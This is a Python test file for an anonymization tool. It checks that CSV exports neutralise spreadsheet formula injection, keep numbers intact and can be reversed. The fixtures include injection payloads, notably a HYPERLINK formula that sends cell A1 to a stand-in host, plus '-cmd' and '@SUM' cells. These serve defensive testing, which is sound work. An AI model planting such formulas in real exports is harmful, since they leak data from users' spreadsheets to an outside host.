"""CSV to open in a spreadsheet: nothing in it is run, numbers are numbers, and everything can be had back."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

import oneoff
from oneoff.errors import DamagedRelease
from oneoff.releases.spreadsheet import ESCAPED, RAW, harmless
from tests.command_line import oneoff as command

pytestmark = pytest.mark.usefixtures("without_pictures")

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'
CELLS = [FORMULA, "+1+1", "-cmd", "@SUM(1)", "\t=1", "flu", "-5", "'=1"]
BEGINNINGS = "=+-@\t\r\n＝＋－＠"  # noqa: RUF001


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("cells") / "people.csv"
    ages = [20 + i % 7 for i in range(40)]
    people = {"age": ages, "debt": [-age for age in ages], "disease": [CELLS[i % 8] for i in range(40)]}
    pl.DataFrame(people | {"=kept": [CELLS[-1 - i % 8] for i in range(40)]}).write_csv(path)
    return path


@pytest.fixture(scope="module")
def release(source: Path) -> oneoff.Published:
    table = oneoff.read_table(source, quasi=["age", "debt"], sensitive="disease", keep=["=kept"])
    return oneoff.anonymize(table, "k-anonymity:4", seed=1, method="mondrian")


def cells(public: Path) -> set[str]:
    found: set[str] = set()
    for path in public.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            found.update(cell for row in csv.reader(file) for cell in row)
    return found


def is_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?", text) is not None


def test_spreadsheets_run_nothing(release: oneoff.Published, tmp_path: Path) -> None:
    public = release.write(tmp_path / "out", csv=True) / "public"
    found = cells(public)
    assert not [cell for cell in found if cell[:1] in tuple(BEGINNINGS) and not is_number(cell)]
    assert {f"'{FORMULA}", "'+1+1", "'-cmd", "'@SUM(1)", "'\t=1", "''=1", "flu", "-5", "'=kept"} <= found
    assert {"-20", "-26"} <= found, "numbers stay numbers"
    assert json.loads((public / "release.json").read_text())["csv"] == ESCAPED
    shown = pl.read_parquet(public / "data.parquet")
    assert set(shown["disease"]) == set(CELLS), "Parquet is not for spreadsheets"
    assert oneoff.verify(public).holds


def test_raw_when_asked_for(release: oneoff.Published, tmp_path: Path) -> None:
    public = release.write(tmp_path / "out", raw_csv=True) / "public"
    assert set(CELLS) <= cells(public)
    assert json.loads((public / "release.json").read_text())["csv"] == RAW
    assert oneoff.verify(public).holds


def test_without_csv_nothing_is_said_about_it(release: oneoff.Published, tmp_path: Path) -> None:
    public = release.write(tmp_path / "out") / "public"
    described = json.loads((public / "release.json").read_text())
    assert "csv" not in described
    (public / "release.json").write_text(json.dumps(described | {"csv": "nothing can happen"}))
    with pytest.raises(DamagedRelease, match="of its CSV files"):
        oneoff.verify(public)


@pytest.mark.parametrize(("option", "said"), [("--csv", ESCAPED), ("--raw-csv", RAW)])
def test_the_option(option: str, said: str, source: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    made = command("anonymize", source, "--quasi", "age,debt", "--sensitive", "disease", "--guarantee", "k-anonymity:4",
                   "--out", out, option)  # fmt: skip
    assert made.status == 0, made.err
    assert json.loads((out / "public" / "release.json").read_text())["csv"] == said
    assert ("raw_csv = true" in (out / "private" / "job.toml").read_text()) == (said == RAW)


@given(texts=st.lists(st.text(alphabet=st.sampled_from(BEGINNINGS + "'5.e \x00aé"), max_size=5), min_size=1))
@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())])
def test_every_text_can_be_had_back(kind: pa.DataType, texts: list[str]) -> None:
    shown = harmless(pa.table({"text": pa.array(texts).cast(kind)}))["text"].to_pylist()
    for text, cell in zip(texts, shown, strict=True):
        run = re.match(f"'+[{re.escape(BEGINNINGS)}]", cell)
        assert (cell[1:] if run else cell) == text
        if cell[:1] in tuple(BEGINNINGS):
            float(cell)


def test_other_columns_are_left_alone() -> None:
    frame = pa.table({"number": [-1.5, None], "flag": [True, False], "text": ["=1", None], "-5": [1, 2], "@": [1, 2]})
    shown = harmless(frame)
    assert shown.column_names == ["number", "flag", "text", "-5", "'@"]
    assert shown["text"].to_pylist() == ["'=1", None]
    assert shown.select(["number", "flag"]).equals(frame.select(["number", "flag"]))
